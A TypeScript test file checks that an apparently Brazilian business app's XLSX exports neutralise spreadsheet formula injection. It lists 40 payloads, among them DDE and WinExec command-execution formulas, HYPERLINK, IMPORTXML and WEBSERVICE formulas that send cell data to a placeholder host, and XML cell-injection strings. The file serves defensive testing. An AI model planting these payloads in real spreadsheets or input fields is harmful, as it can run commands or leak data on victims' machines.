import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { inflateRawSync } from 'node:zlib'
import { telas } from '@prumo/domain/telas.ts'
import { readXlsx } from 'hucre/xlsx'
import { sql } from 'kysely'
import { type Person, type TestApp, testApp } from '../../test-kit/app.ts'
import { until } from '../../test-kit/until.ts'
import { tableOf } from '../database/tables.ts'

/** Security design, §1 row 14 and §4 P: what somebody types is never run by the spreadsheet program of who opens the export. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://x.example/?a="&A1,"clique")',
  '=IMPORTXML(CONCAT("http://x.example/?v=",A2),"//a")',
  '=WEBSERVICE("http://x.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+cmd|"/C calc"!A0',
  '-cmd|"/C calc"!A0',
  '@cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '−1+1',
  '＠SUM(1)',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '|=1+1',
  '%0A=1+1',
  '</t></is></c><c r="A9" t="str"><f>1+1</f><v>2</v></c><c><is><t>',
  ']]><f>1+1</f>',
  '&lt;f&gt;1+1&lt;/f&gt;',
  '_x003D_1+1',
  '{=1+1}',
  '=A1:A9',
  "='C:\\x\\[y.xls]Z'!A1",
  '=EXEC("calc")',
  '=CALL("kernel32","WinExec","JCJ","calc",0)',
  '=1+1;SYSTEM("calc")',
  '#REF!=1+1',
]

let t: TestApp
before(async () => {
  t = await testApp()
})
after(() => t.close())

/** The sheet's XML out of the archive: the first entry, written as it streams. */
function sheetXml(xlsx: Buffer): string {
  assert.equal(xlsx.readUInt32LE(0), 0x04034b50)
  const name = xlsx.readUInt16LE(26)
  assert.equal(xlsx.toString('latin1', 30, 30 + name), 'xl/worksheets/sheet1.xml')
  return inflateRawSync(xlsx.subarray(30 + name)).toString()
}

async function exportOf(person: Person, slug: string): Promise<Buffer> {
  const { trabalhoId } = (await person.post(`/api/${slug}/planilha`, {})).body
  await until(async () => (await person.get(`/api/trabalhos/${trabalhoId}`)).body.situacao !== 1)
  const answer = await person.get(`/api/trabalhos/${trabalhoId}/arquivo`)
  assert.equal(answer.status, 200, `${slug}: ${JSON.stringify(answer.body)}`)
  const direct = await person.get(`/api/${slug}/planilha`)
  assert.equal(sheetXml(direct.raw), sheetXml(answer.raw), `${slug}: both ways of asking give the same sheet`)
  return answer.raw
}

/** No formula anywhere, and every payload that was stored is there, as text, to the letter. */
async function assertInert(xlsx: Buffer, what: string, stored: readonly string[]): Promise<void> {
  const xml = sheetXml(xlsx)
  assert.doesNotMatch(xml, /<f[\s>/]/, `${what}: a formula`)
  for (const [, attributes] of xml.matchAll(/<c ([^>]*)>/g))
    assert.match(
      attributes!,
      /t="inlineStr"|s="[0345]"/,
      `${what}: a cell that is neither text nor a number of its column`,
    )
  const { sheets } = await readXlsx(xlsx)
  const texts = new Set(sheets[0]!.rows.flat().filter((value) => typeof value === 'string'))
  const lost = stored.filter((text) => !texts.has(text.replaceAll('\r', '\n')) && !texts.has(text))
  assert.deepEqual(lost, [], what)
}

test('40 payloads in every text column of every export stay text: no formula, nothing lost', async () => {
  assert.equal(new Set(payloads).size, 40)
  const centro = await t.centro('CC-FORMULA')
  const all = await t.person({ telas: Object.values(telas).map((tela) => [tela, 'visualizar']), centros: [centro] })
  let columns = 0
  for (const entity of t.services.entities.values()) {
    // The log has its own test below; a permission's only text is a screen's name, never typed.
    if (entity.name === 'logs' || entity.name === 'permissoes') continue
    const table = tableOf(entity)
    // Only plain texts without a rule of their own (an e-mail, a CPF) can hold a payload at all.
    const names = entity.list.filter((name) => ['text', 'longText'].includes(entity.fields[name]!.kind))
    const { rows: known } = await sql<{ n: string }>`select count(*) as n from ${sql.table(table)}`.execute(t.db)
    if (names.length === 0) continue
    if (known[0]!.n === '0' || entity.name === 'contas-contrato' || entity.name === 'usuarios') {
      const created = await seed(entity.name, centro, all.id)
      if (!created) continue
    }
    columns += names.length
    for (const name of names)
      await sql`update ${sql.table(table)} as r set ${sql.ref(snakeOf(name))} = p.texto
        from (select id, row_number() over (order by id) as n from ${sql.table(table)}) as o
        join unnest(${payloads}::text[]) with ordinality as p(texto, n) on p.n = o.n where r.id = o.id`.execute(t.db)
    const { rows } = await sql<Record<string, string>>`select * from ${sql.table(table)} order by id limit 40`.execute(
      t.db,
    )
    const seen = rows.flatMap((row) => names.map((name) => row[name]!)).filter(Boolean)
    await assertInert(await exportOf(all, entity.name), entity.name, entity.name === 'usuarios' ? [] : seen)
  }
  assert.ok(columns >= 12, `${columns} colunas`)
  console.log(`${payloads.length} textos em ${columns} colunas`)
})

const snakeOf = (name: string): string => name.replace(/[A-Z]/g, (letter) => `_${letter.toLowerCase()}`)

/** Forty rows to be filled in; false where a row needs more than this test can know of. */
async function seed(entity: string, centro: string, holder: string): Promise<boolean> {
  const rows: Record<string, () => Promise<unknown>> = {
    obras: () =>
      sql`insert into obras (codigo, nome, contrato_id) select 'o' || n, 'o', ${centro} from generate_series(1, 40) n`.execute(
        t.db,
      ),
    fornecedores: () =>
      sql`insert into fornecedores (nome, cpf_ou_cnpj) select 'f' || n, lpad(n::text, 11, '0') from generate_series(1, 40) n`.execute(
        t.db,
      ),
    'contas-contrato': () =>
      sql`with c as (insert into contas_contrato (codigo, nome) select 'c' || n, 'c' from generate_series(1, 40) n returning id)
        insert into usuarios_centros (usuario_id, centro_de_custo_id) select ${holder}, id from c`.execute(t.db),
    usuarios: () =>
      sql`with u as (insert into usuarios (nome, email) select 'u' || n, 'u' || n || '@x.demo' from generate_series(1, 40) n returning id)
        insert into usuarios_centros (usuario_id, centro_de_custo_id) select id, ${centro} from u`.execute(t.db),
  }
  const plain = [
    'categorias-de-custo',
    'classes-de-custo',
    'contas-institucionais',
    'funcoes',
    'processos',
    'setores',
    'suporte',
    'veiculos',
  ]
  if (rows[entity]) await rows[entity]()
  else if (plain.includes(entity)) {
    const declared = t.services.entities.get(entity)!
    const required = Object.entries(declared.fields).filter(([, field]) => !field.optional)
    const values: Record<string, unknown> = {}
    for (const [name, field] of required) {
      // Follows from the situation: nobody writes it.
      if (name === 'ativo' && field.automatic) continue
      if (['text', 'longText'].includes(field.kind)) values[name] = null
      else if (field.kind === 'boolean') values[name] = true
      else if (field.kind === 'integer') values[name] = 2020
      else if (field.kind === 'code') values[name] = Number(Object.keys(field.codes!)[0])
      else if (field.kind === 'instant') values[name] = new Date().toISOString()
      else if (field.kind === 'ref' && field.target === 'contas-contrato') values[name] = centro
      else return false
    }
    for (let n = 0; n < 40; n++) {
      const row = Object.fromEntries(
        Object.entries(values).map(([name, value]) => [name, value === null ? `${name} ${n}`.slice(0, 20) : value]),
      )
      await t.db.insertInto(tableOf(declared)).values(row).execute()
    }
  } else return false
  return true
}

test('file names of attachments and the browser’s own name in the log are no formulas either', async () => {
  const centro = await t.centro('CC-ANEXO')
  const all = await t.person({ telas: Object.values(telas).map((tela) => [tela, 'visualizar']), centros: [centro] })
  const { rows } = await sql<{
    id: string
  }>`insert into pedidos (tipo, status, solicitante_id, centro_de_custo_id, justificativa)
    values (1, 5, ${all.id}, ${centro}, '=1+1') returning id`.execute(t.db)
  for (const [n, nome] of payloads.entries()) {
    const { rows: files } = await sql<{ id: string }>`insert into arquivos (chave, nome, tipo, tamanho, sha256)
      values (${`ensaio/${n}.pdf`}, ${nome}, 'application/pdf', 1, ${'0'.repeat(64)}) returning id`.execute(t.db)
    await sql`insert into pedidos_anexos (pedido_id, tipo, status, em_pagamento, file_name, hiperlink, arquivo_id)
      values (${rows[0]!.id}, 3, 1, true, ${nome}, '/api/x', ${files[0]!.id})`.execute(t.db)
  }
  await assertInert(await exportOf(all, 'contas-a-pagar'), 'contas a pagar', payloads)
  await assertInert(await exportOf(all, 'pedidos-anexos'), 'anexos', payloads)

  for (const text of payloads)
    await sql`insert into logs (tela_id, acao_id, descricao, endereco) values (1, 1, ${`${text}`}, '127.0.0.1')`.execute(
      t.db,
    )
  const everyCentre = (await t.db.selectFrom('contasContrato').select('id').execute()).map(({ id }) => id as string)
  const auditor = await t.person({ telas: [[telas.logs, 'visualizar']], centros: everyCentre })
  const { trabalhoId } = (await auditor.post('/api/logs/planilha', {})).body
  await until(async () => (await auditor.get(`/api/trabalhos/${trabalhoId}`)).body.situacao !== 1)
  await assertInert((await auditor.get(`/api/trabalhos/${trabalhoId}/arquivo`)).raw, 'logs', payloads)
})
